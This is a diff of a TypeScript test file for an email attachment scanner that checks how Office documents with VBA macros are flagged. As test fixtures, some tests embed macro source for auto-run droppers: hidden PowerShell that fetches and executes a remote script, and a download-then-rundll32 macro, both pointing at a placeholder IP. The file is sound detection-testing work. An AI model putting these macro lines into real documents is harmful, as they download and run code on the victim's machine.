@@ -8,8 +8,8 @@ import type { SignalCode } from '../../src/contract/signals.ts';
 import { parseMessage } from '../../src/message/parse.ts';
 import { entity, mixed, textPart, type Entity } from '../message/mime.ts';
 import {
-  JPEG, PLAIN_HTML, PLAIN_RTF, SMUGGLING_HTML, base64, docx, ics, isoImage, ole, pdf, peStub, relationships, rtfWithObject,
-  storedZip, utf8, zip,
+  JPEG, PLAIN_HTML, PLAIN_RTF, SMUGGLING_HTML, base64, docx, ics, isoImage, macroPackage, ole, pdf, peStub, relationships,
+  rtfWithObject, storedZip, utf8, vbaStreams, zip, type VbaModule,
 } from './formats-builders.ts';
 
 const CONTEXT: AreaContext = { signal: new AbortController().signal, deadline: Number.MAX_SAFE_INTEGER, trustedAuthservIds: [], dns: 'off' };
@@ -124,15 +124,38 @@ describe('attachments area: the password offered in the text', () => {
 
 describe('attachments area: documents', () => {
   it('flags an OOXML package with a VBA project', async () => {
-    const bytes = docx({ 'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }) });
+    const bytes = macroPackage([{ name: 'Module1', source: 'Sub FormatReport()\r\n  Columns("A:F").AutoFit\r\nEnd Sub\r\n' }]);
     assert.deepEqual(await signals([file('report.docm', bytes)]), ['attachment_office_macro']);
+  });
+  it('says so when a VBA project cannot be read', async () => {
+    const bytes = docx({ 'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }) });
+    assert.deepEqual(await signals([file('report.docm', bytes)]), ['attachment_office_macro', 'coverage_attachment_uninspected']);
+  });
+  it('flags a macro that runs on open and starts a downloader: .docm, legacy .xls, and inside a ZIP', async () => {
+    const downloader: VbaModule = {
+      name: 'ThisDocument',
+      source: 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr https://198.51.100.41/f.ps1 -useb | iex""", 0\r\nEnd Sub\r\n',
+      pcode: 300,
+    };
+    const expected = ['attachment_office_macro', 'attachment_office_macro_dropper'];
+    assert.deepEqual(await signals([file('Factuur.docm', macroPackage([downloader]))]), expected);
+    const workbook = { ...downloader, name: 'ThisWorkbook', source: 'Private Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://198.51.100.41/a.dll", Environ("TEMP") & "\\a.dll", 0, 0\r\n  Shell "rundll32 " & Environ("TEMP") & "\\a.dll,Start"\r\nEnd Sub\r\n' };
+    assert.deepEqual(await signals([file('order.xls', ole({ Workbook: new Uint8Array(600), ...vbaStreams([workbook], '_VBA_PROJECT_CUR/VBA') }), 'application/vnd.ms-excel')]), expected);
+    assert.deepEqual(await signals([file('order.zip', zip({ 'order.docm': macroPackage([downloader]) }))]), expected);
+  });
+  it('leaves a spreadsheet that formats itself on open, and a Shell call no procedure runs by itself, as macros', async () => {
+    const formatting = macroPackage([{ name: 'ThisWorkbook', source: 'Private Sub Workbook_Open()\r\n  With Sheets("Report").Range("A1:H1")\r\n    .Font.Bold = True\r\n    .Interior.Color = RGB(221, 235, 247)\r\n  End With\r\n  Sheets("Report").Columns("A:H").AutoFit\r\nEnd Sub\r\n' }], 'Report', 'xl/vbaProject.bin');
+    assert.deepEqual(await signals([file('report.xlsm', formatting)]), ['attachment_office_macro']);
+    const button = macroPackage([{ name: 'Module1', source: 'Sub OpenExportFolder()\r\n  Shell "explorer.exe " & ThisWorkbook.Path & "\\export", vbNormalFocus\r\nEnd Sub\r\n' }], 'Export', 'xl/vbaProject.bin');
+    assert.deepEqual(await signals([file('export-tool.xlsm', button)]), ['attachment_office_macro']);
   });
   it('flags a docx that loads a remote template', async () => {
     const bytes = docx({ 'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'http://198.51.100.7/t.dotm', external: true }]) });
     assert.deepEqual(await signals([file('report.docx', bytes)]), ['attachment_office_external_ref']);
   });
   it('flags a legacy document with macros', async () => {
-    assert.deepEqual(await signals([file('order.doc', ole({ 'Macros/VBA/dir': new Uint8Array(8), WordDocument: new Uint8Array(600) }), 'application/msword')]), ['attachment_office_macro']);
+    const project = vbaStreams([{ name: 'NewMacros', source: 'Sub InsertLetterhead()\r\n  Selection.InsertFile "letterhead.docx"\r\nEnd Sub\r\n', pcode: 200 }], 'Macros/VBA');
+    assert.deepEqual(await signals([file('order.doc', ole({ ...project, WordDocument: new Uint8Array(600) }), 'application/msword')]), ['attachment_office_macro']);
   });
   it('flags an encrypted Office document', async () => {
     assert.deepEqual(await signals([file('salary.xlsx', ole({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(600) }))]), [
